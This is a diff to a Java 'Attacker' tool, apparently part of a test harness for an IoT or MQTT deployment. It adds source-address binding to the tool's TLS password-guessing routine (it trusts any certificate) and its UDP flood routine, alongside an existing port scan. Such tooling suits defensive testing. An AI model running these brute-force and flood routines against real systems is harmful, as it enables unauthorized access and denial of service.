@@ -37,16 +37,18 @@ public final class Attacker {
   private Attacker() {}
 
   /**
-   * {@code scan HOST FIRST-PORT COUNT}, {@code guess HOST PORT USER TRIES}, {@code flood HOST PORT
-   * PACKETS} or {@code visit HOST PORT}; prints one line that says what came of it.
+   * {@code scan HOST FIRST-PORT COUNT}, {@code guess HOST PORT USER TRIES SOURCE}, {@code flood
+   * HOST PORT PACKETS SOURCE} or {@code visit HOST PORT}; prints one line that says what came of
+   * it.
    */
   public static void main(String[] args) throws Exception {
     InetAddress host = InetAddress.ofLiteral(args[1]);
     int port = Integer.parseInt(args[2]);
     switch (args[0]) {
       case "scan" -> System.out.println(scan(host, port, Integer.parseInt(args[3])));
-      case "guess" -> System.out.println(guess(host, port, args[3], Integer.parseInt(args[4])));
-      case "flood" -> System.out.println(flood(host, port, Integer.parseInt(args[3])));
+      case "guess" ->
+          System.out.println(guess(host, port, args[3], Integer.parseInt(args[4]), args[5]));
+      case "flood" -> System.out.println(flood(host, port, Integer.parseInt(args[3]), args[4]));
       case "visit" -> System.out.println(visit(host, port) ? "connected" : "no connection");
       default -> throw new IllegalArgumentException(args[0]);
     }
@@ -81,14 +83,14 @@ public final class Attacker {
   }
 
   /** Tries passwords at the field listener, one connection each. */
-  private static String guess(InetAddress host, int port, String user, int tries)
+  private static String guess(InetAddress host, int port, String user, int tries, String source)
       throws GeneralSecurityException {
     int refused = 0;
     int cut = 0;
     int in = 0;
     SSLContext tls = trusting();
     for (int i = 0; i < tries; i++) {
-      switch (login(tls, host, port, user, "password" + i)) {
+      switch (login(tls, InetAddress.ofLiteral(source), host, port, user, "password" + i)) {
         case 0 -> in++;
         case -1 -> cut++;
         default -> refused++;
@@ -100,8 +102,14 @@ public final class Attacker {
 
   /** The code of the CONNACK, or -1 when there is none. */
   private static int login(
-      SSLContext tls, InetAddress host, int port, String user, String password) {
+      SSLContext tls,
+      InetAddress source,
+      InetAddress host,
+      int port,
+      String user,
+      String password) {
     try (var socket = (SSLSocket) tls.getSocketFactory().createSocket()) {
+      socket.bind(new InetSocketAddress(source, 0));
       socket.connect(new InetSocketAddress(host, port), CONNECT_MS);
       socket.setSoTimeout(ANSWER_MS);
       OutputStream out = socket.getOutputStream();
@@ -154,10 +162,11 @@ public final class Attacker {
   }
 
   /** Sends small datagrams, 5,000 in a second. */
-  private static String flood(InetAddress host, int port, int packets) throws IOException {
+  private static String flood(InetAddress host, int port, int packets, String source)
+      throws IOException {
     int sent = 0;
     int failed = 0;
-    try (var socket = new DatagramSocket()) {
+    try (var socket = new DatagramSocket(0, InetAddress.ofLiteral(source))) {
       var packet = new DatagramPacket(new byte[64], 64, host, port);
       long start = System.nanoTime();
       for (int i = 0; i < Math.min(packets, MAX_PACKETS); i++) {
